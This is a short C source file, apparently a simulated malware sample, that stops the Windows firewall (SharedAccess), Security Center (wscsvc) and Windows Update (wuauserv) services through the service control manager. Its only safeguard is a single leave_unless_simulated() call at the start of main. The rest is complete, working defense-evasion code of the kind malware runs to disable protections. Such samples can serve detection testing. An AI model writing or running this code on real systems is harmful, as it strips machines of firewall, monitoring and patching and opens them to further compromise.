/* Stops the services that protect the machine: firewall, security centre, automatic updates. */
#include "simulated.h"

int main(void)
{
	static const char *const names[] = { "SharedAccess", "wscsvc", "wuauserv" };
	SERVICE_STATUS status;
	leave_unless_simulated();
	SC_HANDLE manager = OpenSCManagerA(NULL, NULL, SC_MANAGER_CONNECT);
	if (manager == NULL)
		return 1;
	for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
		SC_HANDLE service = OpenServiceA(manager, names[i], SERVICE_STOP);
		if (service == NULL)
			continue;
		ControlService(service, SERVICE_CONTROL_STOP, &status);
		CloseServiceHandle(service);
	}
	CloseServiceHandle(manager);
	return 0;
}
